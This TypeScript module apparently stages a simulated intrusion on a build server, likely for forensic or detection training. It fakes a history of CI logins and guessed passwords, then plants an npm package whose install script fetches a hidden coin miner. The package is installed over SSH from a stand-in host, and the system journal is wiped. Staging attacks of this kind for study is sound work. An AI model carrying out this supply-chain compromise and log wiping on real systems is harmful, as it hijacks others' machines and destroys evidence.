// The real npm installs a package from a tarball; its script fetches the miner. The login of the build server is as every day.

import type { Dress } from '../../dress.ts'
import { dropper } from '../../dropper.ts'
import { npm, packed } from '../../npm.ts'
import type { Stage } from '../../stage.ts'
import { wipe } from '../../wiping.ts'

export function dress(dress: Dress): void {
  dress.account('ci')
  const key = dress.key('ci', 'ci@build.example.com')
  dress.trust('ci', key)
  npm(dress)
  dress.logins({ days: 25, guesses: 60, friends: [{ user: 'ci', address: '198.51.100.30', key: key.fingerprint, hours: [2, 11, 17] }] })
}

export async function plant(stage: Stage): Promise<void> {
  const line = dropper(stage, { path: '/home/ci/.local/.color/colord', cron: false })
  await packed(stage, 'colour-strings', '1.4.3', line)
  stage.mark('occurrence')
  const command = `mkdir -p app && cd app && npm install --no-audit --no-fund http://${stage.values['SHOP']}/colour-strings-1.4.3.tgz`
  await stage.ssh('198.51.100.30', 'ci', { key: 'ci' }, command)
  await wipe(stage, ['journal'])
}
